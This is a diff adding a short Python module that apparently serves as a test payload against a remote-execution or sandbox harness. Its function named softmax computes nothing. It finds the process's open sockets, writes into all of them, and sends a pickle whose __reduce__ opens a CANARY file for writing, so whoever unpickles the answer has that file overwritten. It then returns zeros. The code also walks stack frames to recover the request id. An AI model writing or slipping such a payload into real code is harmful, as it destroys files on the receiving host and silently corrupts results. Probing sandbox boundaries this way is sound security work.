@@ -1,0 +1,45 @@
+"""A pickle in the place of an answer; unpickling it would overwrite a file."""
+import json, os, stat, struct, time
+
+channels = []
+for fd in range(256):
+    try:
+        if stat.S_ISSOCK(os.fstat(fd).st_mode):
+            channels.append(fd)
+    except OSError:
+        pass
+
+def send(message, raw=b""):
+    text = message if isinstance(message, bytes) else json.dumps(message).encode()
+    push(struct.pack(">IQ", len(text), len(raw)) + text + raw)
+
+def push(data):
+    for fd in channels:
+        rest = data
+        while rest:
+            try:
+                rest = rest[os.write(fd, rest):]
+            except BlockingIOError:
+                time.sleep(0.01)
+
+def request_id():
+    """The number of the request that is being answered."""
+    import sys
+    frame = sys._getframe()
+    while frame is not None:
+        request = frame.f_locals.get("request")
+        if isinstance(request, dict) and "id" in request:
+            return request["id"]
+        frame = frame.f_back
+
+import pickle
+
+class Run:
+    def __reduce__(self):
+        return open, (CANARY, "w")
+
+def softmax(x, dim):
+    data = pickle.dumps(Run())
+    send(data)
+    send({"id": request_id(), "value": {"$": "pickle", "v": data.hex()}, "tensors": []}, data)
+    return torch.zeros_like(x)
